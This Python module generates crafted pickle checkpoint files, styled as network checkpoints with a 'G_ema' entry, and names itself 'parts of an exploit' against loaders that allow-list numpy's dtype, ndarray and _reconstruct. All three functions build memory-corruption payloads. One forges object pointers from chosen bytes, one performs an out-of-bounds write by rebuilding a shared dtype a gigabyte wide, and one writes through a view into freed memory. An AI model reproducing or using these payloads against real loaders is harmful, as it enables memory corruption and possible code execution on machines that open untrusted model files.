"""Checkpoint files that crashed a reader whose pickle machine knew numpy's own dtype and ndarray: parts of an exploit.

Each function returns a pickle, written instruction by instruction. Read with `numpy.dtype`, `numpy.ndarray` and
`numpy.core.multiarray._reconstruct` in the allow-list, they write or read where they should not; no code of theirs runs.
"""

from __future__ import annotations

import struct

HEAD, STOP, REDUCE, BUILD, SET_ITEM, DROP, MARK, TUPLE, NONE, FALSE = (
    b"\x80\x04",
    b".",
    b"R",
    b"b",
    b"s",
    b"0",
    b"(",
    b"t",
    b"N",
    b"\x89",
)
DICT = b"}"
FAR = 1 << 30


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def number(value: int) -> bytes:
    return b"J" + struct.pack("<i", value)


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value)) + value.encode()


def content(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def tuple_of(*parts: bytes) -> bytes:
    return MARK + b"".join(parts) + TUPLE


def keep(slot: int) -> bytes:
    return b"q" + bytes([slot])


def kept(slot: int) -> bytes:
    return b"h" + bytes([slot])


def dtype(code: str) -> bytes:
    return name("numpy", "dtype") + tuple_of(text(code), FALSE, b"\x88") + REDUCE


def in_a_network_pickle(body: bytes) -> bytes:
    return HEAD + DICT + text("G_ema") + body + SET_ITEM + STOP


def objects_from_bytes() -> bytes:
    """An array gets bytes of the file's choosing; then its type is rebuilt to hold object pointers, and an item is set."""
    record = dtype("V8") + keep(1) + DROP
    empty = name("numpy.core.multiarray", "_reconstruct")
    empty += tuple_of(name("numpy", "ndarray"), tuple_of(number(0)), content(b"b")) + REDUCE
    array = empty + tuple_of(number(1), tuple_of(number(8)), kept(1), FALSE, content(b"\x41" * 64)) + BUILD + keep(2) + DROP
    fields = DICT + text("a") + tuple_of(dtype("O8"), number(0)) + SET_ITEM
    state = tuple_of(number(3), text("|"), NONE, tuple_of(text("a")), fields, number(8), number(1), number(0x3F))
    write = kept(1) + state + BUILD + DROP + kept(2) + number(0) + tuple_of(text("x")) + SET_ITEM
    return in_a_network_pickle(record + array + write)


def grown_after_its_array() -> bytes:
    """An array is made over eight bytes; then its type, which it shares, is rebuilt a gigabyte wide, and an item is set."""
    record = dtype("V8") + keep(1) + DROP
    array = name("numpy", "ndarray") + tuple_of(tuple_of(number(2)), kept(1)) + REDUCE + keep(2) + DROP
    state = tuple_of(number(3), text("|"), NONE, NONE, NONE, number(FAR), number(1), number(0))
    write = kept(1) + state + BUILD + DROP + kept(2) + number(1) + content(b"\x41" * 4096) + SET_ITEM
    return in_a_network_pickle(record + array + write)


def view_of_freed_memory() -> bytes:
    """A view is made of an array's memory; the array is rebuilt, which frees it; then the view is written to."""
    size = 1 << 26
    array = name("numpy", "ndarray") + tuple_of(tuple_of(number(size)), text("u1")) + REDUCE + keep(1) + DROP
    view = name("numpy", "ndarray") + tuple_of(tuple_of(number(size)), text("u1"), kept(1)) + REDUCE + keep(2) + DROP
    state = tuple_of(number(1), tuple_of(number(0)), dtype("u1"), FALSE, content(b""))
    free = kept(1) + state + BUILD + DROP
    write = kept(2) + number(size // 2) + number(65) + SET_ITEM
    return in_a_network_pickle(array + view + free + write)


CRASH_FILES = {made.__name__: made for made in (objects_from_bytes, grown_after_its_array, view_of_freed_memory)}
